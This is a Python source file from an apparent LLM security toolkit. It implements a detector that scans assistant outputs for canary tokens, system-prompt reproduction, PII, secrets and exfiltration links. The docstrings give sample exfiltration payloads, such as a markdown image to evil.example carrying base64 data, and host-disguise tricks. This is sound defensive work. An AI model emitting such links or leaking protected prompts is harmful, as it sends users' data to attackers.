"""The output-leakage detector: what an assistant's answer gives away.

Four checks run over a model *output*, with a :class:`~bastion.detect.base.ScanContext`:

1. **Canaries** (``CANARY``, score 1): a planted token found verbatim, with changed case, spaces, dashes
   or zero-width characters between its letters, or as base64 / hex of the token.
2. **Protected-text overlap** (``PROTECTED_TEXT_OVERLAP``): word shingles of the output against each
   protected text (the system prompt) after normalisation (case folding, accents, punctuation, function
   words, light stemming), so light paraphrase still matches. Regions of fewer than
   :data:`MIN_REGION_TOKENS` content words are ignored (common phrases); the score grows with the share
   of the protected text reproduced.
3. **Links** (``EXFILTRATION_LINK`` for URLs a renderer loads on its own: markdown images, ``<img>``,
   ``<iframe>``, ``<script>``, CSS ``url()``...; ``EXTERNAL_LINK`` for links and bare URLs) to hosts
   outside ``allowed_domains`` (their subdomains are allowed). Hosts are read like a browser reads them:
   user-info (``https://allowed.com@evil.com``), backslashes, protocol-relative URLs, IDNs, full-width
   dots. URLs that carry data (long or base64-like query values, text, placeholders such as ``[DATA]``,
   DNS-style labels) score higher; so do ``data:`` and ``javascript:`` URLs.
4. **Egress** of personal data and secrets: the ``pii`` and ``secrets`` detectors run on the output and
   their detections come back as ``PII:<TYPE>`` / ``SECRET:<TYPE>`` from ``leakage``.

With no ``allowed_domains`` every host is external. Explanations never quote the output.
"""

from __future__ import annotations

import base64
import html
import logging
import math
import re
import unicodedata
from collections import Counter
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from functools import cache, lru_cache
from importlib import resources
from types import MappingProxyType
from typing import Any
from urllib.parse import unquote, unquote_plus

import yaml
from pydantic import BaseModel, ConfigDict, ValidationError

from bastion.core.errors import ConfigError, RegistryError
from bastion.core.types import Detection, Policy, Span
from bastion.detect.base import DEFAULT_MAX_CHARS, BaseDetector, ScanContext
from bastion.detect.registry import detectors
from bastion.detect.secrets import SecretsDetector

__all__ = ["FLAG_THRESHOLDS", "LeakageDetector", "LeakageVocabulary", "load_vocabulary"]

logger = logging.getLogger(__name__)

#: per finding kind, the score at which a detection is flagged under each policy
FLAG_THRESHOLDS: Mapping[str, Mapping[Policy, float]] = MappingProxyType(
    {
        "overlap": MappingProxyType({Policy.STRICT: 0.15, Policy.BALANCED: 0.25, Policy.PERMISSIVE: 0.5}),
        "link": MappingProxyType({Policy.STRICT: 0.35, Policy.BALANCED: 0.6, Policy.PERMISSIVE: 0.8}),
    }
)

SHINGLE_SIZE = 3
MIN_PROTECTED_TOKENS = 6
MIN_REGION_TOKENS = 6
MAX_GAP_TOKENS = 3
#: content words reproduced for a full score, however long the protected text is
FULL_SCORE_TOKENS = 30
MIN_CANARY_CHARACTERS = 4  # letters and digits a canary needs to be looked for at all
MIN_FUZZY_CANARY_CHARACTERS = 6  # ... and to be looked for with spacing and zero-width tolerance

AUTO_LOAD_SCORE = 0.8
CLICK_SCORE = 0.4
DATA_BONUS = {True: 0.15, False: 0.3}  # auto-loading / click-needed
SUSPICIOUS_HOST_BONUS = 0.1  # punycode / IDN or IP-literal host
USER_INFO_BONUS = 0.25  # "https://allowed.com@evil.com": user-info that dresses up the real host
ACTIVE_CONTENT_SCORE = 0.9
DATA_URI_SCORE = {True: 0.75, False: 0.5}  # active content (text/html, script) / images and others

_VOCABULARY_PACKAGE = "bastion.data.leakage"


# -- vocabulary ------------------------------------------------------------------------------------------


class _VocabularyModel(BaseModel):
    model_config = ConfigDict(extra="forbid", frozen=True)

    stopwords: dict[str, tuple[str, ...]]
    stem_suffixes: tuple[str, ...]
    auto_loading: dict[str, tuple[str, ...]]
    click_needed: dict[str, tuple[str, ...]]


@dataclass(frozen=True, slots=True)
class LeakageVocabulary:
    """Stopwords and suffixes for the overlap check, HTML tag/attribute tables for the link check."""

    stopwords: frozenset[str]
    stem_suffixes: tuple[str, ...]
    auto_loading: Mapping[str, frozenset[str]]
    click_needed: Mapping[str, frozenset[str]]


@cache
def load_vocabulary() -> LeakageVocabulary:
    """The vocabulary from ``bastion/data/leakage/vocabulary.yaml``, read once per process."""
    source = f"{_VOCABULARY_PACKAGE}/vocabulary.yaml"
    try:
        raw = yaml.safe_load(
            resources.files(_VOCABULARY_PACKAGE).joinpath("vocabulary.yaml").read_text("utf-8")
        )
        model = _VocabularyModel.model_validate(raw)
    except (OSError, yaml.YAMLError, ValidationError) as error:
        raise ConfigError(f"{source}: {error}") from error
    return LeakageVocabulary(
        stopwords=frozenset(word.casefold() for words in model.stopwords.values() for word in words),
        stem_suffixes=model.stem_suffixes,
        auto_loading=MappingProxyType({tag: frozenset(names) for tag, names in model.auto_loading.items()}),
        click_needed=MappingProxyType({tag: frozenset(names) for tag, names in model.click_needed.items()}),
    )


def _pii_types() -> tuple[str, ...]:
    try:
        from bastion.detect.pii import BUILTIN_TYPES
    except ImportError:  # the pii detector is optional for this module
        return ()
    return tuple(f"PII:{name}" for name in BUILTIN_TYPES)


# -- the detector ------------------------------------------------------------------------------------------


class LeakageDetector(BaseDetector):
    """Leaks in a model's output: canaries, system-prompt reproduction, exfiltration links, PII and secrets.

    >>> from bastion.detect.base import ScanContext
    >>> context = ScanContext(canaries=("BASTION-CANARY-7f3a9c",), allowed_domains=("acme-inkasso.de",))
    >>> detector = LeakageDetector()
    >>> [d.type for d in detector.detect("Sure: b a s t i o n canary 7f3a9c", context)]
    ['CANARY']
    >>> [d.type for d in detector.detect("![logo](https://evil.example/p.png?d=SGVsbG8gV29ybGQhIQ)", context)]
    ['EXFILTRATION_LINK']
    """

    id = "leakage"
    description = (
        "Output leakage: canary tokens, reproduction of protected texts (the system prompt), exfiltration "
        "links to hosts outside the allowed domains, and personal data or secrets in the answer."
    )
    types = (
        "CANARY",
        "PROTECTED_TEXT_OVERLAP",
        "EXFILTRATION_LINK",
        "EXTERNAL_LINK",
        *(f"SECRET:{name}" for name in SecretsDetector.types),
        *_pii_types(),
    )
    owasp = ("LLM02", "LLM05", "LLM07")
    atlas = ("AML.T0056", "AML.T0057", "AML.T0077")

    def __init__(self, policy: Policy = Policy.BALANCED, max_chars: int = DEFAULT_MAX_CHARS) -> None:
        super().__init__(policy=policy, max_chars=max_chars)
        self.vocabulary = load_vocabulary()
        self._secrets: BaseDetector = detectors.create("secrets", policy=self.policy, max_chars=max_chars)
        self._pii: BaseDetector | None = _optional_detector("pii", self.policy, max_chars)

    def _detect(self, text: str, context: ScanContext) -> Sequence[Detection]:
        if not text:
            return []
        allowed = tuple(
            host for host in (_allowed_host(domain) for domain in context.allowed_domains) if host
        )
        canaries = self._canaries(text, context.canaries)
        egress = self._egress(text, allowed)
        sensitive = [d.span for d in (*canaries, *egress) if d.flagged and d.span is not None]
        links = self._links(text, allowed, sensitive)
        return [*canaries, *self._overlaps(text, context.protected_texts), *links, *egress]

    # -- 1. canaries --------------------------------------------------------------------------------
    def _canaries(self, text: str, canaries: Iterable[str]) -> list[Detection]:
        found: list[Detection] = []
        for number, canary in enumerate(canaries, start=1):
            pattern, encoded_forms = _canary_forms(canary)
            seen: set[tuple[int, int]] = set()
            if pattern is not None:
                for match in pattern.finditer(text):
                    seen.add((match.start(), match.end()))
                    found.append(
                        _canary_detection(match.start(), match.end(), number, "as written or spaced out")
                    )
            for form in encoded_forms:
                start = text.find(form)
                while start >= 0:
                    if (start, start + len(form)) not in seen:
                        seen.add((start, start + len(form)))
                        found.append(_canary_detection(start, start + len(form), number, "encoded"))
                    start = text.find(form, start + len(form))
        return found

    # -- 2. protected-text overlap ------------------------------------------------------------------
    def _overlaps(self, text: str, protected_texts: Iterable[str]) -> list[Detection]:
        indexes = [
            (number, _protected_index(protected)) for number, protected in enumerate(protected_texts, 1)
        ]
        indexes = [(number, index) for number, index in indexes if index.size >= MIN_PROTECTED_TOKENS]
        if not indexes:
            return []
        tokens = _content_tokens(text)
        threshold = FLAG_THRESHOLDS["overlap"][self.policy]
        found: list[Detection] = []
        for number, index in indexes:
            regions = _matched_regions(tokens, index)
            if not regions:
                continue
            covered = set().union(*(positions for _first, _last, _count, positions in regions))
            fraction = len(covered) / index.size
            score = min(1.0, max(fraction, len(covered) / FULL_SCORE_TOKENS))
            for first, last, count, _positions in regions:
                found.append(
                    Detection(
                        detector=self.id,
                        type="PROTECTED_TEXT_OVERLAP",
                        score=score,
                        flagged=score >= threshold,
                        span=Span(tokens[first][1], tokens[last][2]),
                        explanation=(
                            f"reproduces protected text {number}: {len(covered)} of its {index.size} content "
                            f"words ({fraction:.0%}) appear in order in the output"
                        ),
                        metadata=MappingProxyType(
                            {
                                "protected_index": number,
                                "reproduced_fraction": fraction,
                                "region_words": count,
                            }
                        ),
                    )
                )
        return found

    # -- 3. links -------------------------------------------------------------------------------------
    def _links(self, text: str, allowed: tuple[str, ...], sensitive: Sequence[Span]) -> list[Detection]:
        """Links to outside hosts; a link that holds a canary, a secret or personal data carries data."""
        threshold = FLAG_THRESHOLDS["link"][self.policy]
        found: list[Detection] = []
        for link in _find_links(text, self.vocabulary):
            holds = any(span.start < link.end and link.start < span.end for span in sensitive)
            verdict = _judge_url(link.url, link.auto_load, allowed, holds_sensitive_data=holds)
            if verdict is None:
                continue
            kind, score, metadata = verdict
            found.append(
                Detection(
                    detector=self.id,
                    type=kind,
                    score=score,
                    flagged=score >= threshold,
                    span=Span(link.start, link.end),
                    explanation=_link_explanation(link, metadata),
                    metadata=MappingProxyType({**metadata, "construct": link.construct}),
                )
            )
        return found

    # -- 4. egress --------------------------------------------------------------------------------------
    def _egress(self, text: str, allowed: tuple[str, ...]) -> list[Detection]:
        """Secrets and personal data, minus e-mail look-alikes that are URL syntax or the company's own."""
        found: list[Detection] = []
        for prefix, detector in (("SECRET", self._secrets), ("PII", self._pii)):
            if detector is None:
                continue
            for detection in detector.detect(text):
                if detection.type == "EMAIL" and detection.span is not None:
                    address = detection.span.of(text)
                    if _in_url_authority(text, detection.span.start) or _is_allowed(
                        _ascii_host(address.rpartition("@")[2]), allowed
                    ):
                        continue
                found.append(
                    Detection(
                        detector=self.id,
                        type=f"{prefix}:{detection.type}",
                        score=detection.score,
                        flagged=detection.flagged,
                        span=detection.span,
                        explanation=f"{prefix.lower()} in the output: {detection.explanation}",
                        metadata=MappingProxyType({**detection.metadata, "source_detector": detector.id}),
                    )
                )
        return found


def _optional_detector(detector_id: str, policy: Policy, max_chars: int) -> BaseDetector | None:
    """Build a detector that may not be installed yet; without it, that check is skipped (and logged)."""
    try:
        return detectors.create(detector_id, policy=policy, max_chars=max_chars)
    except RegistryError:
        logger.warning("leakage: detector %r is unavailable, its egress check is skipped", detector_id)
        return None


# -- canary helpers -------------------------------------------------------------------------------------


def _canary_detection(start: int, end: int, number: int, how: str) -> Detection:
    return Detection(
        detector=LeakageDetector.id,
        type="CANARY",
        score=1.0,
        flagged=True,
        span=Span(start, end),
        explanation=f"canary token {number} appears in the output ({how})",
        metadata=MappingProxyType({"canary_index": number, "form": how}),
    )


@lru_cache(maxsize=256)
def _canary_forms(canary: str) -> tuple[re.Pattern[str] | None, tuple[str, ...]]:
    """A case- and spacing-tolerant pattern for ``canary`` and its base64 / hex encodings.

    Letters may be separated by up to three non-alphanumeric characters (spaces, dashes, zero-width
    characters). Base64 is given for the three byte alignments the canary can have inside a longer
    encoded text, minus the characters that depend on the neighbouring bytes.
    """
    stripped = canary.strip()
    letters = [char for char in stripped if char.isalnum()]
    if len(letters) < MIN_CANARY_CHARACTERS:
        return None, ()  # "-" or "ab" would match everywhere: not a usable canary
    if len(letters) >= MIN_FUZZY_CANARY_CHARACTERS:
        pattern = re.compile(r"[\W_]{0,3}".join(re.escape(char) for char in letters), re.IGNORECASE)
    else:
        pattern = re.compile(re.escape(stripped), re.IGNORECASE)
    raw = stripped.encode("utf-8", "surrogatepass")
    forms: set[str] = set()
    for offset, skip in ((0, 0), (1, 2), (2, 3)):
        data = b"\x00" * offset + raw
        encoded = base64.b64encode(data[: len(data) // 3 * 3]).decode("ascii")[skip:]
        if len(encoded) >= 8:
            forms.update({encoded, encoded.translate(str.maketrans("+/", "-_"))})
    if len(raw) >= 4:
        forms.update({raw.hex(), raw.hex().upper()})
    return pattern, tuple(sorted(forms))


# -- overlap helpers -------------------------------------------------------------------------------------

_WORD = re.compile(r"\w+")


@dataclass(frozen=True, slots=True)
class _ProtectedIndex:
    size: int
    shingles: Mapping[tuple[str, ...], tuple[int, ...]]


@lru_cache(maxsize=65_536)
def _normal_form(word: str) -> str | None:
    """A content word reduced to a comparable form, or ``None`` for function words and single letters."""
    vocabulary = load_vocabulary()
    folded = word.casefold()
    if folded in vocabulary.stopwords or (len(folded) < 2 and not folded.isdigit()):
        return None
    folded = "".join(c for c in unicodedata.normalize("NFKD", folded) if not unicodedata.combining(c))
    for suffix in vocabulary.stem_suffixes:
        if len(folded) > len(suffix) + 3 and folded.endswith(suffix):
            return folded[: -len(suffix)]
    return folded


def _content_tokens(text: str) -> list[tuple[str, int, int]]:
    tokens: list[tuple[str, int, int]] = []
    for match in _WORD.finditer(text):
        normal = _normal_form(match.group())
        if normal is not None:
            tokens.append((normal, match.start(), match.end()))
    return tokens


@lru_cache(maxsize=64)
def _protected_index(text: str) -> _ProtectedIndex:
    words = [token for token, _start, _end in _content_tokens(text)]
    shingles: dict[tuple[str, ...], list[int]] = {}
    for position in range(len(words) - SHINGLE_SIZE + 1):
        shingles.setdefault(tuple(words[position : position + SHINGLE_SIZE]), []).append(position)
    return _ProtectedIndex(
        size=len(words), shingles=MappingProxyType({key: tuple(value) for key, value in shingles.items()})
    )


def _matched_regions(
    tokens: list[tuple[str, int, int]], index: _ProtectedIndex
) -> list[tuple[int, int, int, set[int]]]:
    """Runs of output tokens that reproduce protected shingles: ``(first, last, words, protected positions)``.

    Matched tokens closer than :data:`MAX_GAP_TOKENS` unmatched ones join one region, so a changed or
    inserted word does not split it; regions under :data:`MIN_REGION_TOKENS` words are dropped.
    """
    matches: dict[int, set[int]] = {}
    for position in range(len(tokens) - SHINGLE_SIZE + 1):
        key = tuple(token for token, _start, _end in tokens[position : position + SHINGLE_SIZE])
        for protected_position in index.shingles.get(key, ()):
            for offset in range(SHINGLE_SIZE):
                matches.setdefault(position + offset, set()).add(protected_position + offset)
    regions: list[tuple[int, int, int, set[int]]] = []
    current: list[int] = []
    for position in sorted(matches):
        if current and position - current[-1] - 1 > MAX_GAP_TOKENS:
            regions.append(_region(current, matches))
            current = []
        current.append(position)
    if current:
        regions.append(_region(current, matches))
    return [region for region in regions if region[2] >= min(MIN_REGION_TOKENS, index.size)]


def _region(positions: list[int], matches: dict[int, set[int]]) -> tuple[int, int, int, set[int]]:
    covered: set[int] = set()
    for position in positions:
        covered |= matches[position]
    return positions[0], positions[-1], len(positions), covered


# -- link helpers -------------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class _Link:
    start: int
    end: int
    url: str
    auto_load: bool
    construct: str


_MARKDOWN_TITLE = r"""(?:\s{1,10}(?:"[^"\n]{0,500}"|'[^'\n]{0,500}'))?\s{0,10}\)?"""
_MARKDOWN_IMAGE = re.compile(
    r"!\[[^\[\]\n]{0,1000}\]\(\s{0,10}<?(?P<url>[^\s()<>]{1,4000})>?" + _MARKDOWN_TITLE
)
_MARKDOWN_LINK = re.compile(
    r"(?<!!)\[[^\[\]\n]{0,1000}\]\(\s{0,10}<?(?P<url>[^\s()<>]{1,4000})>?" + _MARKDOWN_TITLE
)
_MARKDOWN_REFERENCE = re.compile(
    r"(?m)^[ ]{0,3}\[(?P<label>[^\[\]\n]{1,200})\]:[ \t]{0,10}<?(?P<url>[^\s<>]{1,4000})"
)
_MARKDOWN_IMAGE_REFERENCE = re.compile(r"!\[(?P<alt>[^\[\]\n]{0,1000})\]\[(?P<label>[^\[\]\n]{0,200})\]")
_HTML_TAG = re.compile(r"<(?P<tag>[A-Za-z][A-Za-z0-9:-]{0,20})(?P<attributes>\s[^<>]{0,4000})?/?>")
_HTML_ATTRIBUTE = re.compile(
    r"""(?P<name>[A-Za-z][A-Za-z:-]{0,30})\s{0,5}=\s{0,5}(?:"(?P<double>[^"]{0,4000})"|'(?P<single>[^']{0,4000})'"""
    r"""|(?P<bare>[^\s"'>]{1,4000}))"""
)
_CSS_URL = re.compile(r"""(?i)url\(\s{0,5}["']?(?P<url>[^"')\s]{1,4000})""")
_CSS_IMPORT = re.compile(r"""(?i)@import\s{1,5}["'](?P<url>[^"'\s]{1,4000})""")
_BARE_URL = re.compile(r"""(?i)(?<![\w@/.-])(?P<url>(?:(?:https?|ftps?|wss?)://|www\.)[^\s<>"'`]{1,4000})""")
_META_REFRESH = re.compile(r"(?i)^\s{0,5}\d{1,5}\s{0,5};\s{0,5}url\s{0,5}=\s{0,5}")


def _find_links(text: str, vocabulary: LeakageVocabulary) -> list[_Link]:
    """Every URL a renderer could load or follow, with the span of the construct that holds it."""
    links: list[_Link] = []
    for match in _MARKDOWN_IMAGE.finditer(text):
        links.append(_Link(match.start(), match.end(), match.group("url"), True, "markdown image"))
    for match in _MARKDOWN_LINK.finditer(text):
        links.append(_Link(match.start(), match.end(), match.group("url"), False, "markdown link"))
    image_labels = {
        (match.group("label") or match.group("alt")).casefold()
        for match in _MARKDOWN_IMAGE_REFERENCE.finditer(text)
    }
    for match in _MARKDOWN_REFERENCE.finditer(text):
        is_image = match.group("label").casefold() in image_labels
        construct = "markdown image reference" if is_image else "markdown link reference"
        links.append(_Link(match.start(), match.end(), match.group("url"), is_image, construct))
    for match in _HTML_TAG.finditer(text):
        tag = match.group("tag").lower()
        auto, click = (
            vocabulary.auto_loading.get(tag, frozenset()),
            vocabulary.click_needed.get(tag, frozenset()),
        )
        if not (auto or click) or not match.group("attributes"):
            continue
        for attribute in _HTML_ATTRIBUTE.finditer(match.group("attributes")):
            name = attribute.group("name").lower()
            if name not in auto and name not in click:
                continue
            value = html.unescape(
                attribute.group("double") or attribute.group("single") or attribute.group("bare") or ""
            )
            if name == "content":
                refresh = _META_REFRESH.match(value)
                if refresh is None:
                    continue
                value = value[refresh.end() :]
            urls = (
                [part.strip().split(" ")[0] for part in value.split(",")]
                if name.endswith("srcset")
                else [value]
            )
            for url in urls:
                links.append(_Link(match.start(), match.end(), url, name in auto, f"HTML <{tag} {name}>"))
    for pattern in (_CSS_URL, _CSS_IMPORT):
        for match in pattern.finditer(text):
            links.append(_Link(match.start(), match.end(), match.group("url"), True, "CSS url()"))
    taken = sorted((link.start, link.end) for link in links)
    for match in _BARE_URL.finditer(text):
        url = _trim_url(match.group("url"))
        start, end = match.start("url"), match.start("url") + len(url)
        if not any(s < end and start < e for s, e in taken):
            links.append(_Link(start, end, url, False, "bare URL"))
    return links


def _trim_url(url: str) -> str:
    """Drop sentence punctuation after a bare URL (and a closing parenthesis it did not open)."""
    while url and url[-1] in ".,;:!?*_'\")]}":
        if url[-1] == ")" and url.count("(") >= url.count(")"):
            break
        url = url[:-1]
    return url


_SCHEME = re.compile(r"(?P<scheme>[A-Za-z][A-Za-z0-9+.\-]{0,20}):")
_NETWORK_SCHEMES = frozenset({"http", "https", "ftp", "ftps", "ws", "wss", "file", "smb"})
_ACTIVE_SCHEMES = frozenset({"javascript", "vbscript"})
_IP_HOST = re.compile(r"\d{1,3}(?:\.\d{1,3}){3}|\d{6,12}|0x[0-9a-f]{6,10}|\[[0-9a-f:.]{2,45}\]")
_PLACEHOLDER = re.compile(r"\[[A-Za-z_ ]{2,40}\]|\{[A-Za-z_ ]{2,40}\}|<[A-Za-z_ ]{2,40}>|\$[A-Z_]{3,40}")
_ENCODED_RUN = re.compile(r"[A-Za-z0-9+/_=-]{16,}")
_DOTS = str.maketrans({"。": ".", "．": ".", "｡": "."})


def _ascii_host(host: str) -> str:
    """A host as a browser would look it up: NFKC, lower case, IDNA (punycode) labels, no trailing dot."""
    host = unicodedata.normalize("NFKC", unquote(host)).translate(_DOTS).lower().rstrip(".")
    if host.isascii():
        return host
    labels = []
    for label in host.split("."):
        try:
            labels.append(label if label.isascii() else label.encode("idna").decode("ascii"))
        except UnicodeError:
            labels.append(label)
    return ".".join(labels)


def _allowed_host(domain: str) -> str:
    """An ``allowed_domains`` entry as a bare host (scheme, path, port and ``*.`` removed)."""
    domain = domain.strip()
    if "://" in domain:
        domain = domain.split("://", 1)[1]
    domain = domain.split("/", 1)[0].split(":", 1)[0].removeprefix("*.").lstrip(".")
    return _ascii_host(domain) if domain else ""


def _is_allowed(host: str, allowed: tuple[str, ...]) -> bool:
    return any(host == domain or host.endswith("." + domain) for domain in allowed)


def _split_url(url: str) -> tuple[str, str, str, bool] | None:
    """``(scheme, host, path_and_query, had_user_info)`` of a network URL; ``None`` for relative ones."""
    url = re.sub(r"[\t\r\n]", "", url.strip()).replace("\\", "/")
    match = _SCHEME.match(url)
    scheme = match.group("scheme").lower() if match else ""
    rest = url[match.end() :] if match else url
    if scheme in {"mailto"}:
        address = rest.split("?", 1)[0]
        return scheme, address.rpartition("@")[2], rest[len(address) :], False
    if scheme and scheme not in _NETWORK_SCHEMES:
        return scheme, "", rest, False
    if not scheme and not rest.startswith("//"):
        if not rest.lower().startswith("www."):
            return None
        rest = "//" + rest
    rest = rest.lstrip("/")
    authority_end = min([index for index in (rest.find(c) for c in "/?#") if index >= 0] or [len(rest)])
    authority, path = rest[:authority_end], rest[authority_end:]
    _user_info, at, host_port = authority.rpartition("@")
    host = host_port if host_port.startswith("[") else host_port.split(":", 1)[0]
    if host.startswith("["):
        host = host.split("]", 1)[0] + "]"
    return scheme or "https", _ascii_host(host), path, bool(at)


def _entropy(value: str) -> float:
    counts = Counter(value)
    return -sum(n / len(value) * math.log2(n / len(value)) for n in counts.values()) if value else 0.0


def _carries_data(host: str, path: str, url: str) -> bool:
    """True when the URL looks like it smuggles data out: in the query, the path or DNS labels."""
    if _PLACEHOLDER.search(unquote(url)):
        return True
    path_part, _hash, _fragment = path.partition("#")
    path_only, _question, query = path_part.partition("?")
    if len(query) >= 100:
        return True
    for pair in re.split(r"[&;]", query)[:50]:
        value = unquote_plus(pair.partition("=")[2])
        if len(value) >= 24 or value.count(" ") >= 2:
            return True
        if any(_entropy(run) >= 3.5 for run in _ENCODED_RUN.findall(value)):
            return True
    for segment in path_only.split("/")[:50]:
        if len(segment) >= 32 and _entropy(segment) >= 3.5:
            return True
    labels = host.split(".")
    return len(labels) >= 6 or any(len(label) >= 24 and _entropy(label) >= 3.5 for label in labels)


def _in_url_authority(text: str, start: int) -> bool:
    """True when ``start`` lies in the ``user:password@host`` part of a URL (``scheme://`` before it)."""
    before = text[max(0, start - 200) : start]
    scheme_end = before.rfind("://")
    if scheme_end < 0:
        return False
    between = before[scheme_end + 3 :]
    return not any(char in between for char in "/?#= \t\n\"'<>()")


def _judge_url(
    url: str, auto_load: bool, allowed: tuple[str, ...], *, holds_sensitive_data: bool = False
) -> tuple[str, float, dict[str, Any]] | None:
    """``(type, score, metadata)`` for a URL that leaves the allowed domains, else ``None``."""
    kind = "EXFILTRATION_LINK" if auto_load else "EXTERNAL_LINK"
    parts = _split_url(url)
    if parts is None:
        return None
    scheme, host, path, had_user_info = parts
    if scheme in _ACTIVE_SCHEMES:
        return kind, ACTIVE_CONTENT_SCORE, {"scheme": scheme, "carries_data": False}
    if scheme == "data":
        media_type = path.split(",", 1)[0].split(";", 1)[0].lower()
        active = not media_type.startswith("image/") or media_type == "image/svg+xml"
        return (
            kind,
            DATA_URI_SCORE[active],
            {"scheme": scheme, "media_type": media_type, "carries_data": True},
        )
    if not host:
        return None
    if _is_allowed(host, allowed):
        return _judge_nested(path, auto_load, allowed)
    carries = holds_sensitive_data or _carries_data(host, path, url)
    suspicious = host.startswith("xn--") or ".xn--" in host or bool(_IP_HOST.fullmatch(host))
    score = AUTO_LOAD_SCORE if auto_load else CLICK_SCORE
    score += DATA_BONUS[auto_load] if carries else 0.0
    score += SUSPICIOUS_HOST_BONUS if suspicious else 0.0
    score += USER_INFO_BONUS if had_user_info else 0.0
    metadata = {
        "host": host,
        "scheme": scheme,
        "carries_data": carries,
        "suspicious_host": suspicious,
        "user_info": had_user_info,
    }
    return kind, min(1.0, score), metadata


def _judge_nested(
    path: str, auto_load: bool, allowed: tuple[str, ...]
) -> tuple[str, float, dict[str, Any]] | None:
    """An allowed URL that forwards to another one (open redirect): judge the URL in its query."""
    query = path.partition("?")[2].partition("#")[0]
    for pair in query.split("&")[:50]:
        value = unquote_plus(pair.partition("=")[2])
        if re.match(r"(?i)(?:https?:)?//", value):
            verdict = _judge_url(value, auto_load, allowed)
            if verdict is not None:
                kind, score, metadata = verdict
                return kind, score, {**metadata, "redirect": True}
    return None


def _link_explanation(link: _Link, metadata: Mapping[str, Any]) -> str:
    if metadata.get("scheme") in _ACTIVE_SCHEMES:
        return f"{link.construct} with a script URL"
    if metadata.get("scheme") == "data":
        return f"{link.construct} with an inline data: URL"
    verb = "loads" if link.auto_load else "points to"
    via = " through a redirect on an allowed host" if metadata.get("redirect") else ""
    disguise = " behind a user name that imitates another host" if metadata.get("user_info") else ""
    carrying = " and carries data in the URL" if metadata.get("carries_data") else ""
    return f"{link.construct} {verb} a host outside the allowed domains{via}{disguise}{carrying}"
